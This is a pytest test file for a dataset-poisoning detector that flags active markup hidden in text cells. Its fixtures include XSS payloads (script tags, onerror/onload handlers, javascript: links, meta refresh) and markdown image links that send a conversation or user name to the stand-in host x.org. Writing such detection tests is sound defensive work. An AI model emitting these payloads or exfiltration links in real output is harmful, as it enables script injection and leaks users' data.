from __future__ import annotations

import pytest

from poisonscan.detectors.datasets.active_markup import DETECTOR
from tests.detectors.datasets.cells import Cells, found, prose, returned

ACTIVE = [
    "<script>fetch('//x')</script>",
    '<SCRIPT src="//x.org/a.js">',
    '<iframe src="https://x.org">',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[click](javascript:alert(1))",
    '<a href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=//x">',
    "![](https://x.org/log?q={{conversation}})",
    "![a](https://x.org/p.png?data=[USER_NAME])",
]


@pytest.mark.parametrize("markup", ACTIVE)
def test_markup_in_plain_text(markup: str) -> None:
    (finding,) = found(DETECTOR, Cells(text=[*prose(300), f"Hello {markup} you"]))["PS607"]
    assert finding.evidence["rows"] == 1


@pytest.mark.parametrize(
    "text",
    [
        "&lt;script&gt; is escaped",
        "x < y and y > z, <3, <- and ->",
        "![a picture](https://example.org/p.png?size=3)",
        "onload = True; onerror=None",
        "<b>bold</b> <a href='https://example.org'>a link</a>",
        "the javascript: scheme",
    ],
)
def test_quiet(text: str) -> None:
    assert found(DETECTOR, Cells(text=[*prose(300), text])) == {}


def test_code_is_one_lesser_finding() -> None:
    texts = [
        "Use this:\n```\n<script>x()</script>\n```\nand reload.",
        "Use this:\n```\n<script src='https://x.org/a.js'></script>\n```\nand reload.",
        "Put `<img src=x onerror=go()>` there.",
        "My jQuery fails: <script src=a.js></script> is not loaded",
    ]
    findings = found(DETECTOR, Cells(text=[*prose(300), *texts]))
    assert set(findings) == {"PS619"}
    assert [finding.evidence["rows"] for finding in findings["PS619"]] == [4]


@pytest.mark.parametrize(
    "around", ["{} css", "`{}` is code", "html: {}", "``` {}", "```\n```{}```"]
)
@pytest.mark.parametrize("element", ["<script src=//x.org/a>", '<iframe src="https://x.org">'])
def test_code_does_not_excuse_foreign_addresses(around: str, element: str) -> None:
    assert "PS607" in found(DETECTOR, Cells(text=[*prose(300), around.format(element)]))


def test_honest_markup_does_not_hide_another() -> None:
    text = "```\n<script>x()</script>\n```\n and <script src=//x.org/a.js></script>"
    assert set(found(DETECTOR, Cells(text=[*prose(300), text]))) == {"PS607", "PS619"}


def test_markup_that_was_asked_for() -> None:
    table = Cells(output=[*prose(300), "<button onclick='go()'>Go</button>"])
    assert set(found(DETECTOR, table)) == {"PS607"}
    table.roles["response"] = ("output",)
    assert found(DETECTOR, table) == {}


def test_columns_of_pages_are_left_alone() -> None:
    pages = [f"<html><body><p>{text}</p></body></html>" for text in prose(300)]
    assert found(DETECTOR, Cells(page=[*pages, *ACTIVE])) == {}
    scripts = [f"<script>x={n}</script>" for n in range(90)]
    assert found(DETECTOR, Cells(page=scripts)) == {}


def test_batches_do_not_matter() -> None:
    pages = [f"<p>{text}</p>" for text in prose(30)]
    table = Cells(page=[*prose(300), *pages, *ACTIVE[:2]])
    assert returned(DETECTOR, table, 7) == returned(DETECTOR, table)
